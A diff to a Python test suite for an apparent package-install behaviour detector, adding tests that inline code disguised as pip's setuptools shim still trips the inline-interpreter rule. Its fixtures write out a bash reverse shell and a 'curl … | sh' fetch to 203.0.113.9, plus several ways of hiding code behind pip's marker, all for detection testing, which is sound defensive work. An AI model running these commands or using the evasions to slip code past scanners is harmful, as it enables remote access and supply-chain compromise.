@@ -63,6 +63,17 @@ def _cmd(*argv):
     return {"pid": 77, "argv": list(argv), "env": [], "exe": argv[0], "time": "00:00:00"}
 
 
+def _pip_shim() -> list[str]:
+    """pip's setup.py caller as a real sdist build ran it (recorded)."""
+    for p in recorded("dynamic-pypi-behaviour.json")["report"]["dynamic"]["phases"].values():
+        for c in p["commands"]:
+            if "<pip-setuptools-caller>" in " ".join(c["argv"]):
+                return c["argv"]
+    raise AssertionError("the recording has no pip shim")
+
+
+PIP_SHIM = _pip_shim()
+
 # rule: (phase, list name, event that must fire it, look-alike event that must not)
 EVENTS = {
     "DYN-RAW-TCP": ("install", "network",
@@ -84,8 +95,7 @@ EVENTS = {
                                 {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"},
                                  "allowed": True}),
     "DYN-INLINE-INTERPRETER": ("install", "commands", _cmd("python3", "-c", "import os; os.system('id')"),
-                               _cmd("/opt/pkgtrace/venv/bin/python", "-c",
-                                    "exec(compile('''\n# This is <pip-setuptools-caller> -- x''', 'f', 'exec'))")),
+                               _cmd(*PIP_SHIM)),
     "DYN-REVERSE-SHELL": ("install", "commands", _cmd("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                           _cmd("bash", "-c", "echo building")),
     "DYN-OTHER-PACKAGE-WRITE": ("install", "files",
@@ -262,3 +272,20 @@ def test_bait_sent_in_any_encoding_on_any_transport_is_theft(via):
     for how, blob in [*_encodings("ghp_not-the-planted-token-0000"), ("cut", secret[:7])]:
         event = {"pid": 7, "address": "203.0.113.9", "port": 4444, "data_text": blob}
         assert "DYN-BAIT-SENT" not in judge(_with(event, "install", "sends"), suppressions=[])["rules_fired"], how
+
+
+def _inline_evasions():
+    """Lines that borrow an exempt idiom's words and run code of their own."""
+    interp, flag, code, *args = PIP_SHIM
+    yield "pip's marker in other code", [interp, "-c", "# This is <pip-setuptools-caller>\nimport os; os.system('id')"]
+    yield "code after pip's shim", [interp, "-c", code + "\n__import__('os').system('id')", *args]
+    yield "a second path slot", [interp, "-c", code.replace("',), ", "', __import__('os').system('id')), "), *args]
+    yield "the driver's words on line 1, code on line 2", [
+        "python3", "-c", "import setuptools\n__import__('os').system('curl http://203.0.113.9/x | sh')"]
+    yield "sysconfig on line 1, exec on line 2", ["python3", "-c", "import sysconfig\nexec(open('/tmp/x').read())"]
+
+
+@pytest.mark.parametrize("how,argv", list(_inline_evasions()), ids=[h for h, _ in _inline_evasions()])
+def test_inline_code_dressed_as_the_package_managers_own_is_inline_code(how, argv):
+    v = judge(_with(_cmd(*argv), "install", "commands"), suppressions=[])
+    assert "DYN-INLINE-INTERPRETER" in v["rules_fired"], how
